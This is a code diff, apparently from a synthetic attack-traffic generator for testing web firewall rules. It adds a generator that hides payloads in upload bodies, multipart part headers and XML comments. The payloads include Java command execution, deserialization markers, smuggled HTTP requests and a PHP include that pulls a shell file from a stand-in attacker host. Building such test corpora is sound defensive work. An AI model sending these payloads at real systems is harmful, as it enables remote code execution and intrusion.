@@ -501,6 +501,38 @@ const xxe: Gen = (rng) => {
   return { kind: 'attack', family: 'xxe', carrier: 'xml', encoding: 'xml', method: 'POST', target: rng.pick(['/api/xml', '/soap/Service', '/upload/xml', '/xmlrpc.php']), version: 'HTTP/1.1', headers: toolHeaders(rng, { contentType: rng.pick(['application/xml', 'text/xml']) }), body: Buffer.from(body, 'latin1'), note: 'XXE' };
 };
 
+// ---------------------------------------------------------------- payloads only the raw body shows
+
+/**
+ * Attacks in places no argument covers: uploaded file content, XML comments and processing
+ * instructions, multipart part headers. Only rules reading REQUEST_BODY (or FILES_*) see them.
+ */
+const rawBody: Gen = (rng) => {
+  const h = attackerHost(rng);
+  const payload = rng.pick([
+    'Runtime rt = java.lang.Runtime.getRuntime(); rt.exec(cmd);', 'new java.lang.ProcessBuilder("sh", "-c", cmd).start();', 'org.apache.commons.collections.functors.InvokerTransformer',
+    `\xac\xed\x00\x05sr\x00\x11java.util.HashMap`, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', `GET /admin HTTP/1.1\r\nHost: ${h}\r\n\r\n`, `POST /internal/api HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nx=1`,
+    "include($_GET['page']);", '<?php include("http://' + h + '/shell.txt"); ?>', 'mosConfig_absolute_path=http://' + h + '/x?', 'filter[name__startswith]=a&x=__proto__', '%uff1cscript%uff1e',
+  ]).replace(/\\x([0-9a-f]{2})/g, (_m, x: string) => String.fromCharCode(parseInt(x, 16))).replace(/\\r\\n/g, '\r\n');
+  const where = rng.pick(['file', 'file', 'xml-comment', 'xml-pi', 'part-header']);
+  const boundary = `----WebKitFormBoundary${rng.alnum(16)}`;
+  let body: string;
+  let ct: string;
+  if (where === 'file') {
+    ct = `multipart/form-data; boundary=${boundary}`;
+    body = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${rng.pick(['notes', 'report', 'import'])}\r\n--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="${rng.pick(['notes.txt', 'data.bin', 'App.java', 'payload.ser', 'request.txt'])}"\r\nContent-Type: ${rng.pick(['text/plain', 'application/octet-stream', 'text/x-java'])}\r\n\r\n${payload}\r\n--${boundary}--\r\n`;
+  } else if (where === 'part-header') {
+    ct = `multipart/form-data; boundary=${boundary}`;
+    body = `--${boundary}\r\nContent-Disposition: form-data; name="a"\r\nX-Note: ${payload.replace(/[\r\n]+/g, ' ')}\r\n\r\nhello\r\n--${boundary}--\r\n`;
+  } else {
+    ct = rng.pick(['application/xml', 'text/xml']);
+    body = where === 'xml-comment'
+      ? `<?xml version="1.0"?>\n<!-- ${payload.replace(/--/g, '- -')} -->\n<order id="${rng.int(1, 999)}"><item>book</item></order>`
+      : `<?xml version="1.0"?>\n<?note ${payload.replace(/\?>/g, '? >')}?>\n<order id="${rng.int(1, 999)}"><item>book</item></order>`;
+  }
+  return { kind: 'attack', family: 'raw-body', carrier: where, encoding: 'raw', method: 'POST', target: rng.pick(['/upload', '/api/import', '/submit', '/documents']), version: 'HTTP/1.1', headers: toolHeaders(rng, { contentType: ct }), body: Buffer.from(body, 'latin1'), note: `payload in ${where}: ${payload.slice(0, 40)}` };
+};
+
 export const ATTACKS: Array<[number, string, Gen]> = [
   [24, 'sqli', sqli],
   [18, 'xss', xss],
@@ -516,6 +548,7 @@ export const ATTACKS: Array<[number, string, Gen]> = [
   [5, 'scanner', scanner],
   [3, 'upload', upload],
   [2, 'xxe', xxe],
+  [4, 'raw-body', rawBody],
 ];
 
 export { host };
